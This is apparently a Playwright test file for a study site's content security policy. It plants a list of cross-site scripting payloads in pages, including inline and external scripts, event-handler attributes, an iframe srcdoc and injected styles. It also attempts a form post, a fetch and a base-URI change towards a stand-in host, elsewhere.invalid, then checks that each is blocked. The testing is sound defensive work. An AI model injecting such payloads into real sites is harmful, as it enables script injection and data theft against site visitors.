/**
 * The content security policy of every page: what is planted does not run, and nothing of the site's own is blocked,
 * whatever a reader does. Every other test of this folder watches the second too, since a browser writes each violation
 * to its console.
 */
import type { Page } from '@playwright/test';
import { readSite } from '../tools/pages/site.ts';
import { allPages, dealt, dist, redirects } from './site.ts';
import { expect, test } from './test.ts';

interface Planted {
  planted?: string[];
  violations?: string[];
}

/** Notes every violation from the first byte on. */
const watch = (page: Page) =>
  page.addInitScript(() => {
    const noted: string[] = [];
    (window as Planted).violations = noted;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      noted.push(`${effectiveDirective} ${blockedURI}`),
    );
  });

const violations = (page: Page) => page.evaluate(() => [...new Set((window as Planted).violations)].sort());

/** What somebody who could write into a page would try. */
const attacks = `
  <script>(window.planted ??= []).push('inline script')</script>
  <script src="https://elsewhere.invalid/planted.js"></script>
  <script type="module">(window.planted ??= []).push('module')</script>
  <img src="data:," onerror="(window.planted ??= []).push('handler')">
  <svg onload="(window.planted ??= []).push('svg handler')"></svg>
  <iframe srcdoc="<script>parent.planted = ['frame']</script>"></iframe>
  <object data="data:text/html,x"></object>
  <p id="styled" style="position: fixed">Styled</p>
  <style>h1 { position: fixed }</style>
  <img src="https://elsewhere.invalid/pixel.png">`;

test.describe('what is planted into a page', () => {
  test.use({ expectedFaults: /Content Security Policy|elsewhere\.invalid|ERR_BLOCKED_BY_CSP/ });

  for (const address of ['/phases/2/', '/404.html', '/about/files/']) {
    test(`on ${address} does nothing`, async ({ page }) => {
      await watch(page);
      await page.route(`**${address}`, async (route) => {
        const reply = await route.fetch();
        await route.fulfill({ response: reply, body: (await reply.text()).replace('<main', `${attacks}<main`) });
      });
      await page.goto(address, { waitUntil: 'load' });
      await expect.poll(() => violations(page)).toContain('script-src-elem inline');
      expect(await page.evaluate(() => (window as Planted).planted)).toBeUndefined();
      expect(await violations(page)).toEqual(
        expect.arrayContaining([
          'script-src-attr inline',
          'style-src-elem inline',
          'style-src-attr inline',
          'script-src-elem https://elsewhere.invalid/planted.js',
          'img-src https://elsewhere.invalid/pixel.png',
        ]),
      );
      await expect(page.locator('#styled')).toHaveCSS('position', 'static');
      await expect(page.locator('h1')).not.toHaveCSS('position', 'fixed');
    });
  }

  test('by a script of the page neither runs nor sends anything away', async ({ page }) => {
    await watch(page);
    await page.goto('/phases/2/');
    const sent = await page.evaluate(async () => {
      const place = document.createElement('div');
      place.innerHTML = '<img src="data:," onerror="(window.planted ??= []).push(1)">';
      const script = document.createElement('script');
      script.textContent = '(window.planted ??= []).push(2)';
      const form = Object.assign(document.createElement('form'), {
        action: 'https://elsewhere.invalid/',
        method: 'post',
      });
      const start = Object.assign(document.createElement('base'), { href: 'https://elsewhere.invalid/' });
      document.head.append(start);
      document.body.append(place, script, form);
      form.submit();
      return fetch('https://elsewhere.invalid/', { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'blocked',
      );
    });
    expect(sent).toBe('blocked');
    await expect
      .poll(() => violations(page))
      .toEqual(
        expect.arrayContaining([
          'base-uri https://elsewhere.invalid/',
          'connect-src https://elsewhere.invalid/',
          'form-action https://elsewhere.invalid/',
          'script-src-attr inline',
          'script-src-elem inline',
        ]),
      );
    expect(await page.evaluate(() => (window as Planted).planted)).toBeUndefined();
    expect(await page.evaluate(() => document.baseURI)).toContain('/phases/2/');
  });
});

test('every page states a policy without unsafe-inline and unsafe-eval', async ({ page }) => {
  for (const address of [...allPages, ...redirects.map(([from]) => from)]) {
    const html = await (await page.request.get(address, { failOnStatusCode: address !== '/404.html' })).text();
    const policy = /<meta http-equiv="content-security-policy" content="([^"]*)">/.exec(html)?.[1] ?? '';
    expect.soft(policy, address).toMatch(/^default-src 'none'; .*; object-src 'none'$/);
    expect.soft(policy, address).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:|\*/);
  }
});

test('search, islands and theme violate nothing', async ({ page }) => {
  await watch(page);
  await page.goto('/phases/2/');
  await page.getByRole('combobox', { name: 'Theme' }).selectOption('Dark');
  for (const question of await page.locator('.question').all()) await question.scrollIntoViewIfNeeded();
  await expect(page.locator('.question:not(.alive)')).toHaveCount(0);
  await page.getByRole('button', { name: 'Ten questions from this chapter' }).click();
  await expect(page.locator('.drawn .question.alive')).toHaveCount(10);
  await page.keyboard.press('Control+k');
  const dialog = page.getByRole('dialog', { name: 'Search' });
  await dialog.getByRole('textbox').fill('superset');
  await expect(dialog.getByRole('link').first()).toBeVisible();
  expect(await violations(page)).toEqual([]);
});

/** Every page that stays where it is, those of single questions too. */
const parts = 8;
const everyPage = readSite(dist).pages.flatMap((page) => (page.movesTo === undefined ? [page.address] : []));

/**
 * Does on the open page what a reader can: wakes and answers every question, looks back, draws a check, presses terms,
 * switches and filters. Runs in the page. Returns how many questions were answered, and what did not come alive.
 */
async function useEverything(): Promise<{ answered: number; faults: string[] }> {
  const faults: string[] = [];
  let answered = 0;
  const all = <E extends HTMLElement>(selector: string, within: ParentNode = document) => [
    ...within.querySelectorAll<E>(selector),
  ];
  const until = async (happened: () => boolean, what: string) => {
    for (const start = performance.now(); !happened();) {
      if (performance.now() - start > 15_000) {
        faults.push(`${location.pathname}: ${what}`);
        return false;
      }
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    return true;
  };
  const put = (input: HTMLInputElement, value: string) => {
    input.value = value;
    input.dispatchEvent(new Event('input', { bubbles: true }));
  };
  const choose = (select: HTMLSelectElement, index: number) => {
    select.selectedIndex = index;
    select.dispatchEvent(new Event('input', { bubbles: true }));
    select.dispatchEvent(new Event('change', { bubbles: true }));
  };
  const near = (element: HTMLElement) => {
    element.scrollIntoView({ block: 'center', behavior: 'instant' });
    // A chapter wakes at a reader's first move.
    dispatchEvent(new Event('pointermove'));
  };
  const answer = async (card: HTMLElement) => {
    const id = card.dataset['question'] ?? 'a question';
    near(card);
    const isReady = () => card.matches('.alive, [data-outcome]');
    if (!(await until(isReady, `${id} did not come alive`)) || card.dataset['outcome'] !== undefined) return;
    // The first line can only go down.
    all('.moves button', card)[1]?.click();
    all<HTMLInputElement>('[type=radio], [type=checkbox]:not(.check)', card)[0]?.click();
    for (const select of all<HTMLSelectElement>('select', card)) choose(select, 1);
    for (const field of all<HTMLInputElement>('[type=text], [type=number]', card)) put(field, '12');
    all('.sure button', card)[1]?.click();
    const isTold = () =>
      card.dataset['outcome'] !== undefined || /^Kept/.test(card.querySelector('.verdict')?.textContent ?? '');
    if (await until(isTold, `${id} gave no verdict`)) answered += 1;
  };

  for (const details of all<HTMLDetailsElement>('details')) details.open = true;
  for (const theme of all<HTMLSelectElement>('.theme-select select')) choose(theme, 1);
  for (const card of all('.question, .look-back')) await answer(card);
  for (const check of all('.chapter-check')) {
    near(check);
    const button = () => check.querySelector<HTMLElement>('.check-button');
    if (!(await until(() => button() !== null, 'the check of the chapter did not come alive'))) continue;
    button()?.click();
    if (!(await until(() => check.querySelector('.drawn .question') !== null, 'no question was drawn'))) continue;
    for (const card of all('.drawn .question', check).slice(0, 2)) await answer(card);
  }
  for (const term of all('main .term').slice(0, 2)) {
    near(term);
    term.click();
  }
  for (const form of all('.filter-form')) {
    for (const field of all<HTMLInputElement>('[type=search]', form)) put(field, 'press');
    for (const select of all<HTMLSelectElement>('select', form)) choose(select, 1);
    all('.clear', form)[0]?.click();
  }
  for (const box of all<HTMLInputElement>('main :is([type=radio], [type=checkbox])')) {
    if (!box.closest('.question, .look-back, form')) box.click();
  }
  return { answered, faults };
}

for (const [part, addresses] of dealt(everyPage, parts).entries()) {
  test(`on every page everything can be used and nothing is blocked, part ${part + 1} of ${parts}`, async ({
    page,
  }) => {
    test.setTimeout(600_000);
    await watch(page);
    let answered = 0;
    for (const address of addresses) {
      await page.goto(address, { waitUntil: 'load' });
      const used = await page.evaluate(useEverything);
      expect.soft(used.faults).toEqual([]);
      expect.soft(await violations(page), address).toEqual([]);
      answered += used.answered;
    }
    // There are as many questions as pages, nearly: each part meets its share.
    expect(answered).toBeGreaterThan(everyPage.length / parts / 2);
    await page.goto('/glossary/');
    await page.keyboard.press('Control+k');
    const dialog = page.getByRole('dialog', { name: 'Search' });
    await dialog.getByRole('textbox').fill('superset');
    await expect(dialog.getByRole('link').first()).toBeVisible();
    expect(await violations(page)).toEqual([]);
  });
}
